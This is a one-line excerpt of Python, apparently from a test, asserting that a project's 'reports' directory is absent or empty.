    assert not (project / "reports").exists() or not any((project / "reports").iterdir())
